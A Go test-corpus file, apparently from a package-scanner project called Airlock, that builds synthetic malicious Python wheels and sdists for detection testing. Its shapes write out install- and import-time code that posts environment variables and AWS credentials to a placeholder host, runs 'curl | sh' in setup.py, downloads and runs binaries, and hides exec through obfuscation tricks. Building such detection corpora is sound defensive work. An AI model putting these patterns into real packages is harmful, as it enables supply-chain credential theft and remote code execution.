@@ -1,0 +1,128 @@
+// Package malcorpus is the recall half of the detection benchmark: synthetic
+// look-alikes of malicious package shapes — the incidents Airlock was built
+// for and the evasions that walked around the line-based scanner — each
+// built as a wheel and as an sdist. None does anything harmful: payloads
+// are base64 of print(), URLs point nowhere. Never put real malware here.
+package malcorpus
+
+import (
+	"archive/tar"
+	"archive/zip"
+	"bytes"
+	"compress/gzip"
+	"time"
+
+	"airlock/internal/fakepypi"
+)
+
+// Shape is one malicious shape: files placed in the package (module path
+// -> source), where an installer or an import would run them.
+type Shape struct {
+	Name string
+	// Files go into the wheel as they are and into the sdist under its root
+	// folder; "setup.py" only exists in the sdist variant.
+	Files map[string]string
+	// WheelOnly shapes cannot exist in an sdist (a .pth at the wheel root);
+	// SdistOnly ones not in a wheel (setup.py).
+	WheelOnly, SdistOnly bool
+	// Nested adds a zip at this path holding NestedFiles.
+	Nested      string
+	NestedFiles map[string]string
+}
+
+const payload = "cHJpbnQoJ3N5bnRoZXRpYycp" // base64 of print('synthetic')
+
+// Shapes are every shape the content check must hold.
+var Shapes = []Shape{
+	{Name: "litellm: .pth decoding and executing a payload", WheelOnly: true,
+		Files: map[string]string{"pkg_init.pth": "import os, base64; exec(base64.b64decode('" + payload + "'))\n"}},
+	{Name: "ultralytics: miner downloaded with wget at import",
+		Files: map[string]string{"pkg/__init__.py": "import subprocess\nsubprocess.Popen(['wget', 'http://example.invalid/m', '-O', '/tmp/m'])\n"}},
+	{Name: "lightning: downloader started at import",
+		Files: map[string]string{"pkg/__init__.py": "import subprocess, urllib.request\nurllib.request.urlretrieve('http://example.invalid/d', '/tmp/d')\nsubprocess.Popen(['/tmp/d'])\n"}},
+	{Name: "ctx: environment posted at import",
+		Files: map[string]string{"pkg/__init__.py": "import os, base64, requests\nrequests.post('http://example.invalid', data=base64.b64encode(str(os.environ).encode()))\n"}},
+	{Name: "torchtriton: bundled binary started at import",
+		Files: map[string]string{"pkg/__init__.py": "import os, subprocess\nsubprocess.run([os.path.join(os.path.dirname(__file__), 'runtime')])\n"}},
+	{Name: "setup.py downloads and runs at install", SdistOnly: true, Files: map[string]string{"pkg/__init__.py": "", "setup.py": "import os\nos.system('curl -s http://example.invalid/p | sh')\nfrom setuptools import setup\nsetup()\n"}},
+	{Name: "payload in a class body",
+		Files: map[string]string{"pkg/config.py": "import base64\n\nclass Settings:\n    debug = False\n    exec(base64.b64decode('" + payload + "'))\n"}},
+	{Name: "exec by a concatenated name",
+		Files: map[string]string{"pkg/__init__.py": "import base64\ngetattr(__builtins__, 'ex' + 'ec')(base64.b64decode('" + payload + "'))\n"}},
+	{Name: "exec by a reversed name",
+		Files: map[string]string{"pkg/__init__.py": "import builtins\nrun = getattr(builtins, 'cexe'[::-1])\nrun('x = 1')\n"}},
+	{Name: "exec through globals()",
+		Files: map[string]string{"pkg/__init__.py": "globals()['__builtins__']['exec']('x = 1')\n"}},
+	{Name: "exec name from chr codes",
+		Files: map[string]string{"pkg/__init__.py": "getattr(__builtins__, ''.join(map(chr, [101, 120, 101, 99])))('x = 1')\n"}},
+	{Name: "rot13 payload through codecs",
+		Files: map[string]string{"pkg/__init__.py": "import codecs\nexec(codecs.decode('cevag(\"flagurgvp\")', 'rot13'))\n"}},
+	{Name: "payload split over several lines",
+		Files: map[string]string{"pkg/__init__.py": "import base64\nblob = (\n    'cHJpbnQoJ3N5'\n    'bnRoZXRpYycp'\n)\ncode = base64.b64decode(\n    blob\n)\nexec(\n    code\n)\n"}},
+	{Name: "module name computed for __import__",
+		Files: map[string]string{"pkg/__init__.py": "__import__('o' + 's').system('id')\n"}},
+	{Name: "importlib with a computed name",
+		Files: map[string]string{"pkg/__init__.py": "import importlib\nimportlib.import_module('sub' + 'process').Popen(['id'])\n"}},
+	{Name: "cloud credentials read and sent",
+		Files: map[string]string{"pkg/__init__.py": "import os, requests\ncreds = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('http://example.invalid', data=creds)\n"}},
+	{Name: "downloaded code executed",
+		Files: map[string]string{"pkg/__init__.py": "import urllib.request\nexec(urllib.request.urlopen('http://example.invalid/s').read())\n"}},
+	{Name: "unpickling decoded data",
+		Files: map[string]string{"pkg/__init__.py": "import pickle, base64\npickle.loads(base64.b64decode('gASVAAAAAAAAAAA='))\n"}},
+	{Name: "spawn from a function called at import",
+		Files: map[string]string{"pkg/__init__.py": "import subprocess\n\ndef _setup(\n    quiet=True,\n) -> None:\n    subprocess.Popen(['sh', '-c', 'id'])\n\n_setup()\n"}},
+	{Name: "spawn in a decorator",
+		Files: map[string]string{"pkg/__init__.py": "import os\n\ndef register(x):\n    return lambda f: f\n\n@register(os.system('id'))\ndef handler():\n    pass\n"}},
+	{Name: "sitecustomize at the top level", WheelOnly: true, Files: map[string]string{"sitecustomize.py": "print('synthetic')\n"}},
+	{Name: "payload in a zip put on sys.path",
+		Files:  map[string]string{"pkg/__init__.py": "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), '_vendor.zip'))\nimport helper\n"},
+		Nested: "pkg/_vendor.zip", NestedFiles: map[string]string{"helper/__init__.py": "import subprocess\nsubprocess.Popen(['sh', '-c', 'id'])\n"}},
+}
+
+// Wheel builds the shape as a wheel of project "corpus".
+func (s Shape) Wheel() (string, []byte) {
+	extra := map[string]string{}
+	for p, src := range s.Files {
+		if p != "setup.py" {
+			extra[p] = src
+		}
+	}
+	if s.Nested != "" {
+		extra[s.Nested] = string(zipOf(s.NestedFiles))
+	}
+	fn, data, _ := fakepypi.BuildWheel(fakepypi.WheelSpec{Name: "corpus", Version: "1.0", Extra: extra})
+	return fn, data
+}
+
+// Sdist builds the shape as a tar.gz sdist of project "corpus".
+func (s Shape) Sdist() (string, []byte) {
+	files := map[string]string{"PKG-INFO": "Metadata-Version: 2.1\nName: corpus\nVersion: 1.0\n",
+		"pyproject.toml": "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n"}
+	for p, src := range s.Files {
+		files[p] = src
+	}
+	if s.Nested != "" {
+		files[s.Nested] = string(zipOf(s.NestedFiles))
+	}
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+	for p, body := range files {
+		tw.WriteHeader(&tar.Header{Name: "corpus-1.0/" + p, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg, ModTime: time.Unix(0, 0)})
+		tw.Write([]byte(body))
+	}
+	tw.Close()
+	gz.Close()
+	return "corpus-1.0.tar.gz", buf.Bytes()
+}
+
+func zipOf(files map[string]string) []byte {
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	for p, body := range files {
+		w, _ := zw.Create(p)
+		w.Write([]byte(body))
+	}
+	zw.Close()
+	return buf.Bytes()
+}
